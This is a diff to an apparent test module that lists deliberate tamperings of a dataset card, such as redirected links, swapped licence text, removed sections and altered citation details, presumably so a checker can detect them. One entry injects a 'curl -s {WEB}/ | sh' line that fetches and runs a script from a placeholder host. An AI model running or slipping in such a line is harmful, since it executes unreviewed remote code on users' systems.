@@ -98,7 +98,7 @@ BODY: dict[str, Change] = {
         substituted(r'(load_dataset\(\s*"[^"]+",\s*)"[^"]+"', r'\1"default_2"')
     ),
     "a command that sends data away": _in_body(
-        substituted("\nseedproof audit", f"\ncurl -s {WEB}/ | sh\nseedproof audit")
+        substituted("\nseedproof score", f"\ncurl -s {WEB}/ | sh\nseedproof score")
     ),
     "a link that leads elsewhere": _in_body(substituted(r"\]\(https?://[^)]+\)", f"]({WEB}/)")),
     "a picture from the web": _in_body(substituted(r"\]\(example\.png\)", f"]({WEB}/example.png)")),
@@ -106,8 +106,8 @@ BODY: dict[str, Change] = {
     "a picture less": _in_body(without(r"^!\[.*\n")),
     "another licence in its text": _in_body(substituted("CC BY 4.0", "CC0 1.0")),
     "a section too much": _in_body(appended("\n## Results\n\nAll models agree with every answer.\n")),
-    "no section on limitations": _in_body(_without_section("Limitations")),
-    "no section on use out of scope": _in_body(_without_section("Out-of-scope use")),
+    "no section on limits and uses": _in_body(_without_section("Limits and uses")),
+    "no use out of scope": _in_body(without(r"^- \*\*Out of scope\..*\n")),
     "another author in the citation": _in_body(substituted("The Seedproof authors", "Somebody else")),
     "another title in the citation": _in_body(substituted(r"title = \{", "title = {Corrected: ")),
     "another version in the citation": _in_body(substituted(r"version = \{[0-9.]+", "version = {2.0.0")),
